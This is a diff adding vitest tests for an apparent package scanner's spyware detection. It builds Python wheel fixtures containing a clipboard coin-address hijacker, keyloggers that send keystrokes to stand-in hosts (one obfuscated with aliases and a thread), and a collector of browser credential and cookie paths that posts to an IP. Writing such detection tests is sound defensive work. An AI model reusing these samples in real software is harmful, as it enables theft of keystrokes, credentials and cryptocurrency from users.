@@ -1,0 +1,102 @@
+import { expect, test } from 'vitest';
+import { inspect, python, wheel } from '../../support/inspect.ts';
+
+test('a clipboard whose coin addresses an import replaces is malware', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import re, pyperclip',
+      "OWN = '1ExampleAddressThatNobodyOwns'",
+      'def watch():',
+      '    text = pyperclip.paste()',
+      "    if re.match('^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$', text):",
+      '        pyperclip.copy(OWN)',
+      'watch()',
+    ),
+  });
+
+  expect(await inspect('spyware', file)).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', path: 'pkg/__init__.py', line: 6 },
+  ]);
+});
+
+test('keys that are listened to in a module that sends are malware at import', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import requests',
+      'from pynput import keyboard',
+      'def on_press(key):',
+      "    requests.post('https://collector.metrics.invalid/k', data={'k': str(key)})",
+      'keyboard.Listener(on_press=on_press).start()',
+    ),
+  });
+
+  expect(await inspect('spyware', file)).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', path: 'pkg/__init__.py', line: 5 },
+  ]);
+});
+
+test('profiles of browsers in a module that has a webhook are malware', async () => {
+  const file = wheel({
+    'pkg/collect.py': python(
+      'import os, requests',
+      "ROOTS = ['Google/Chrome/User Data', 'Opera Software']",
+      "FILES = ['Login Data', 'Cookies', 'Local State']",
+      'def gather():',
+      '    found = []',
+      '    for root in ROOTS:',
+      '        for name in FILES:',
+      "            found.append(os.path.join(os.environ['LOCALAPPDATA'], root, name))",
+      "    requests.post('http://203.0.113.7/up', json={'n': len(found)})",
+    ),
+  });
+
+  expect(await inspect('spyware', file)).toMatchObject([
+    { class: 'malware', score: 9, path: 'pkg/collect.py', line: 9 },
+  ]);
+});
+
+test('a clipboard tool, a hot-key library and a reader of browser cookies are silent', async () => {
+  const file = wheel({
+    'pkg/clip.py': python(
+      'import pyperclip',
+      'def swap(text):',
+      '    old = pyperclip.paste()',
+      '    pyperclip.copy(text)',
+      '    return old',
+    ),
+    'pkg/keys.py': python(
+      'from pynput import keyboard',
+      'def bind(action):',
+      '    keyboard.Listener(on_press=action).start()',
+    ),
+    'pkg/cookies.py': python(
+      'import os, sqlite3',
+      "PLACES = ['Google/Chrome/User Data/Default/Cookies', 'Opera/Cookies', 'Local State', 'Login Data']",
+      'def load(home):',
+      '    return [sqlite3.connect(os.path.join(home, p)) for p in PLACES]',
+    ),
+  });
+
+  expect(await inspect('spyware', file)).toEqual([]);
+});
+
+test('a listener behind aliases, a class and a thread is found', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import threading',
+      'from urllib.request import urlopen as touch',
+      'import pynput.keyboard as board',
+      'class Watch:',
+      '    def key(self, k):',
+      "        touch('https://collector.' + 'metrics.invalid/?' + str(k))",
+      '    def run(self):',
+      "        make = getattr(board, 'Lis' + 'tener')",
+      '        make(on_press=self.key).start()',
+      'threading.Thread(target=Watch().run, daemon=True).start()',
+    ),
+  });
+
+  expect(await inspect('spyware', file)).toMatchObject([
+    { class: 'malware', context: 'import', path: 'pkg/__init__.py', line: 9 },
+  ]);
+});
